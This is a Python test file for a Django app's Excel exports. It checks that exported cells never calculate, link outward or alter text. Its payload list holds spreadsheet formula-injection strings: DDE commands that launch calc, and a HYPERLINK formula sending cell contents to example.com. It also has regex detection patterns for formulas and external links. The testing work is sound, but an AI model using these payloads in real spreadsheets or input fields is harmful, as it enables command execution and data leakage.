"""What is handed out as Excel never calculates, never links, and no character of it changes: 40 payloads × every export."""

import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from initiatives import workbook_reader
from initiatives.models import EntryPart, Goal, Policy
from initiatives.workbook_writer import CUT, Sheet, write_book
from tests.factories import DepartmentFactory, PlanYearFactory, UserFactory, make_entry, make_initiative

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1", "==1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "  =1+1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\",\"/C calc\",\"x\")",
    '=HYPERLINK("http://example.com/?x="&A1,"見る")', '=WEBSERVICE("http://example.com")', '=IMPORTXML("http://example.com","//a")',
    "{=1+1}", "＝1+1", "＋1", "－1", "＠SUM", "'=1+1", "'", '"', "http://example.com", "mailto:a@example.com",
    "internal:Sheet1!A1", r"\\server\share\x.xlsx", "<b>太字</b>&amp;", "]]>", "_x000a_", "_x0041_", "a\n=1+1", "a\n\nb",
    "a\tb", "\u3000字下げ", "①㈱㍻", "\ue000外字", "葛\U000e0100", "𠮷野家", "ﾊﾝｶｸ", "1e1000000", "007", "2026-04-01",
    "TRUE", "#REF!", "長" * 3_000,
]  # fmt: skip


def test_there_are_forty():
    assert len(PAYLOADS) >= 40


def checked(content: bytes) -> list[list]:
    """All cells of all sheets; fails on anything that calculates, links or reaches outside."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "inlineStr"}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert not name.startswith(("xl/externalLinks", "xl/connections", "xl/vba")), name
            xml = archive.read(name)
            assert not re.search(rb"<f[\s>/]|<hyperlink|TargetMode=\"External\"|<definedName (?!name=\"_xlnm)", xml), (
                name
            )
    return [row for sheet in workbook_reader.read(content).sheets for row in sheet.rows]


@pytest.fixture
def city(plan):
    """A year whose texts are the payload wherever people can write one."""
    year = PlanYearFactory(plan=plan, fiscal_year=2025)

    def city(payload: str):
        department = DepartmentFactory(name=payload[:60])
        initiative = make_initiative(plan, "1-1-1-1", department, name=payload[:100])
        Goal.objects.update(name=payload[:100])
        Policy.objects.update(name=payload[:100])
        texts = {"target": payload, "next_target": payload, "low_rating_reason": payload}
        make_entry(initiative, 2024, result=payload, issues=payload, status=EntryPart.Status.APPROVED, **texts)
        entry = make_entry(initiative, 2025, result=payload, issues=payload, status=EntryPart.Status.DRAFT, **texts)
        entry.parts.update(not_applicable_reason=payload)
        return year, department

    return city


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:24]))
def test_every_export_is_inert_and_whole(payload, city, client, coordinator, admin):
    year, department = city(payload)
    UserFactory(name=payload[:60], of=[department])
    base = {"plan_id": year.plan_id, "fiscal_year": year.fiscal_year}
    columns = ["code", "name", "departments", "target", "result", "issues", "next_target"]
    exports = {
        "initiatives:entry_list_excel": (base, {"column": columns}, {payload[:100], payload[:60], payload}, 6),
        "initiatives:board_excel": (base, {}, {payload[:60]}, 1),
        "reporting:summary_excel": (base, {}, {payload[:100], payload[:60]}, 3),
        "initiatives:survey_excel": (
            base | {"department_id": department.pk},
            {},
            {payload, payload[:60], payload[:100]},
            11,
        ),
    }
    exports["accounts:user_list_excel"] = ({}, {}, {payload[:60]}, 2)
    for name, (kwargs, query, shown, times) in exports.items():
        client.force_login(admin if name.startswith("accounts:") else coordinator)
        content = client.get(reverse(name, kwargs=kwargs), query).content
        found = [cell for row in checked(content) for cell in row if cell in shown]
        assert len(found) >= times, (name, found)


def test_every_export_is_in_the_table():
    """A new export has to be added above."""
    from tests.test_urls import every_name

    exports = {name for name in every_name() if name.endswith("_excel")}
    assert exports == {
        "accounts:user_list_excel",
        "initiatives:board_excel",
        "initiatives:entry_list_excel",
        "reporting:summary_excel",
        "initiatives:survey_excel",
    }


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:24]))
def test_a_text_comes_back_to_the_byte(payload):
    content = write_book([Sheet("表", ["欄"], [[payload]], [20])])
    assert checked(content)[1] == [payload]


def test_a_text_longer_than_a_cell_is_cut_in_words():
    (_, (text,)) = checked(write_book([Sheet("表", ["欄"], [["長" * 40_000]], [20])]))
    assert text == "長" * (32_767 - len(CUT)) + CUT


def test_a_writer_downloads_nothing_that_calculates(city, client):
    year, department = city("=1+1")
    client.force_login(UserFactory(of=[department]))
    address = reverse("initiatives:survey_excel", args=[year.plan_id, year.fiscal_year, department.pk])
    assert checked(client.get(address).content)
